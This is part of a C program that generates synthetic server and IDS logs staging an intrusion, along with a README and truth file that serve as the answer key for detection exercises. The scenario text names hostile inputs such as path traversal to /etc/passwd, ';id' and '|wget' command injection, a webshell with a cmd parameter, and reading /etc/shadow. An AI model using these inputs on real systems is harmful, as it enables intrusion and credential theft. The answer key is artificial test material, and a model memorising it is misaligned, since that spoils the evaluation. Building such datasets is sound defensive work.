"  auth.log      RFC 3164 auth log of web01 (10.0.1.10), db01 (10.0.1.20)\n"
"                and bastion (10.0.1.5): sshd, sudo, su, CRON,\n"
"                systemd-logind, useradd, usermod, passwd.\n"
"  access.log    nginx combined log of web01 (www.example.com).\n"
"  eve.json      Suricata EVE records of the DMZ sensor: flow, dns, http,\n"
"                tls, ssh, alert.\n"
"  journal.json  journalctl -o json of bastion, kernel, cron and systemd\n"
"                only: ufw drops, cron commands, session scopes.\n"
"File mtimes are set just after each file's last record.\n"
"\n"
"Benign activity\n"
"  alice, bob (admins), carol, dave log in to bastion with ED25519 keys\n"
"  from 198.51.100.10-13 and hop to web01/db01 from 10.0.1.5; admins run\n"
"  routine sudo commands.  deploy logs in from the CI runner 10.0.2.15\n"
"  with its key four times and reloads nginx (NOPASSWD sudo).  carol\n"
"  mistypes her password once on db01, then logs in; bob mistypes once at\n"
"  a sudo prompt on web01.  Cron runs on all hosts.  Visitors from\n"
"  198.51.100.30-229 and 2001:db8::/32 browse the site, a crawler\n"
"  (198.51.100.66) reads it, a monitor (10.0.1.30) polls /healthz, hosts\n"
"  resolve names through 10.0.0.2, and a few single packets from\n"
"  192.0.2.0/24 are dropped by ufw on bastion.\n"
"\n"
"Attack, in story order (attackers in 203.0.113.0/24)\n"
"  13:02  203.0.113.45 SYN-scans web01 and bastion (ET SCAN alerts, ufw\n"
"         drops on bastion, sshd banner errors).\n"
"  13:09  203.0.113.45 runs gobuster against web01 (404 burst).\n"
"  13:21  203.0.113.46 runs Nikto against web01 (404 burst, ET SCAN Nikto).\n"
"  13:30  SSH password brute force: 203.0.113.45 against bastion,\n"
"         203.0.113.46 against web01, 203.0.113.52 against both; invalid\n"
"         users (admin, test, oracle, ubuntu ...) and root.\n"
"  14:28  203.0.113.47 guesses deploy's password on bastion.\n"
"  14:41  203.0.113.47 logs in to bastion as deploy with a password\n"
"         (compromised account: deploy; it normally uses a key from CI).\n"
"  14:43  deploy fails one sudo (cat /etc/shadow), then runs sudo su -.\n"
"  14:46  root creates the account sysupd (uid 1006) and adds it to the\n"
"         sudo group (persistence).\n"
"  15:05  203.0.113.45 attacks www.example.com: sqlmap SQL injection\n"
"         (UNION SELECT), path traversal (../../etc/passwd), command\n"
"         injection (;id, |wget), then a webshell /uploads/img.php?cmd=.\n"
"         EVE alerts match each step.\n"
"  15:41  203.0.113.47 logs in to bastion as sysupd with a password.\n"
"\n"
"Unrelated events\n"
"  03:12  192.0.2.150 (zgrab) probes six well-known paths on web01: 404s.\n"
"  10:41  db01 downloads a tarball with curl: one ET POLICY alert,\n"
"         severity 3.\n"
"\n"
"Expected incidents, most severe first\n"
"  1. Intrusion from 203.0.113.0/24: scan, brute force, deploy login to\n"
"     bastion, root via sudo, sysupd created and given sudo, web attack\n"
"     on web01.  Entities: 203.0.113.45/46/47/52, deploy, sysupd,\n"
"     bastion, web01.\n"
"  2. Web probing by 192.0.2.150 (low).\n"
"  3. Policy alert for curl from db01 10.0.1.20 (low).\n"
"  Not incidents: carol's and bob's mistyped passwords, single ufw drops.\n"
"\n";

/* DIR/README: the ground truth of the default scenario. */
static int write_readme(const char *dir, const struct gen *g,
			const struct cast *c, uint64_t seed, unsigned scale)
{
	char path[PATH_MAX];
	FILE *f;

	if ((size_t)snprintf(path, sizeof(path), "%s/README", dir) >=
	    sizeof(path))
		return -ENAMETOOLONG;
	f = fopen(path, "w");
	if (!f)
		return -errno;
	fprintf(f, readme_text, scenario_date, (unsigned long long)seed, scale);
	readme_counts(f, g, c);
	return fclose(f) == 0 ? 0 : -errno;
}

/*
 * DIR/truth.txt for --bytes: one "key value" fact per line, easy to grep.
 * breach is when deploy was compromised.
 */
static int write_truth(const char *dir, const struct gen *g, uint64_t seed,
		       int64_t breach)
{
	char path[PATH_MAX], when[40];
	FILE *f;

	if ((size_t)snprintf(path, sizeof(path), "%s/truth.txt", dir) >=
	    sizeof(path))
		return -ENAMETOOLONG;
	f = fopen(path, "w");
	if (!f)
		return -errno;
	core_time_format(breach, when, sizeof(when));
	fprintf(f, "# vigil-demo-gen --bytes, seed %llu\n"
		"# failed_password ADDRESS COUNT attacker|benign: lines "
		"\"Failed password for ...\"\n",
		(unsigned long long)seed);
	fprintf(f, "bytes auth.log %llu\nbytes access.log %llu\n"
		"lines auth.log %llu\nlines access.log %llu\n",
		(unsigned long long)g->auth.bytes,
		(unsigned long long)g->web.bytes,
		(unsigned long long)g->auth.lines,
		(unsigned long long)g->web.lines);
	for (size_t i = 0; i < g->npeers; i++)
		if (g->peers[i].failed)
			fprintf(f, "failed_password %s %llu %s\n",
				g->peers[i].ip,
				(unsigned long long)g->peers[i].failed,
				g->peers[i].hostile ? "attacker" : "benign");
	fprintf(f, "compromised deploy bastion 203.0.113.47 %s\n"
		"created sysupd bastion\n", when);
	return fclose(f) == 0 ? 0 : -errno;
}

/* ------------------------------------------------------------------ main */

struct opts {
	const char *dir;
	uint64_t seed;
	uint64_t scale;
	uint64_t bytes;
};

static void usage(void)
{
	fputs("usage: vigil-demo-gen DIR [--seed N] [--scale N | --bytes N]\n"
	      "  default   one day of a small site with an intrusion, and\n"
	      "            DIR/README stating the ground truth\n"
	      "  --scale N N times the web visits and crawls\n"
	      "  --bytes N only auth.log and access.log, about N bytes in all\n"
	      "            (suffixes k, M, G), and DIR/truth.txt\n", stderr);
}

/* Decimal with an optional k/M/G (powers of 1000) suffix. */
static bool parse_count(const char *s, uint64_t *out)
{
	char *end;
	unsigned long long v;
	uint64_t mul = 1;

	errno = 0;
	v = strtoull(s, &end, 10);
	if (errno || end == s || *s == '-')
		return false;
	if (*end == 'k' || *end == 'K')
		mul = 1000;
	else if (*end == 'M')
		mul = 1000 * 1000;
	else if (*end == 'G')
		mul = 1000 * 1000 * 1000;
	if (mul > 1)
		end++;
	if (*end || v > UINT64_MAX / mul)
		return false;
	*out = v * mul;
	return true;
}

static bool parse_opts(int argc, char **argv, struct opts *o)
{
	memset(o, 0, sizeof(*o));
	o->seed = 1;
	o->scale = 1;
	for (int i = 1; i < argc; i++) {
		const char *a = argv[i];
		uint64_t *dst = NULL;

		if (strcmp(a, "--seed") == 0)
			dst = &o->seed;
		else if (strcmp(a, "--scale") == 0)
			dst = &o->scale;
		else if (strcmp(a, "--bytes") == 0)
			dst = &o->bytes;
		else if (a[0] == '-' || o->dir)
			return false;
		else
			o->dir = a;
		if (dst && (++i >= argc || !parse_count(argv[i], dst)))
			return false;
	}
	if (o->bytes && o->scale != 1)
		return false;
	return o->dir && o->scale >= 1 && o->scale <= 1000;
}

/* Creates DIR (one level) and the files of the mode. */
static int open_sinks(struct gen *g, const char *dir, bool bytes_mode)
{
	int rc;

	if (mkdir(dir, 0755) != 0 && errno != EEXIST)
		return -errno;
	rc = sink_open(&g->auth, dir, "auth.log");
	if (!rc)
		rc = sink_open(&g->web, dir, "access.log");
	if (!rc)
		rc = sink_open(&g->eve, dir, bytes_mode ? NULL : "eve.json");
	if (!rc)
		rc = sink_open(&g->journal, dir,
			       bytes_mode ? NULL : "journal.json");
	g->journal.counter = g->journal_seq;
	return rc;
}

/* Closes all four sinks; returns the first error as a negative errno. */
static int close_sinks(struct gen *g)
{
	int e1 = sink_close(&g->auth), e2 = sink_close(&g->web);
	int e3 = sink_close(&g->eve), e4 = sink_close(&g->journal);

	return e1 ? -e1 : e2 ? -e2 : e3 ? -e3 : -e4;
}

/* Runs the chosen mode and writes its ground truth. */
static int generate(struct gen *g, struct cast *c, const struct opts *o)
{
	int64_t breach = 0;
	int rc = open_sinks(g, o->dir, o->bytes > 0);
	int crc;

	if (!rc && o->bytes)
		breach = run_bytes(g, c, o->bytes);
	else if (!rc)
		rc = run_day(g, c, (unsigned)o->scale);
	crc = close_sinks(g);
	if (!rc)
		rc = crc;
	if (rc)
		return rc;

	if (o->bytes)
		return write_truth(o->dir, g, o->seed, breach);
	return write_readme(o->dir, g, c, o->seed, (unsigned)o->scale);
}

int main(int argc, char **argv)
{
	static struct gen g;
	static struct cast c;
	struct opts o;
	int rc;

	if (!parse_opts(argc, argv, &o)) {
		usage();
		return 2;
	}
	gen_init(&g, o.seed);
	g.cappeers = 1024;
	g.peers = calloc(g.cappeers, sizeof(*g.peers));
	if (!g.peers || !cast_init(&g, &c)) {
		fputs("vigil-demo-gen: out of memory\n", stderr);
		return 1;
	}
	rc = generate(&g, &c, &o);
	if (rc) {
		fprintf(stderr, "vigil-demo-gen: %s: %s\n", o.dir,
			strerror(-rc));
		return 1;
	}
	fprintf(stderr, "vigil-demo-gen: %s: auth.log %llu, access.log %llu, "
		"eve.json %llu, journal.json %llu lines (seed %llu)\n", o.dir,
		(unsigned long long)g.auth.lines,
		(unsigned long long)g.web.lines,
		(unsigned long long)g.eve.lines,
		(unsigned long long)g.journal.lines,
		(unsigned long long)o.seed);
	free(g.peers);
	return 0;
}
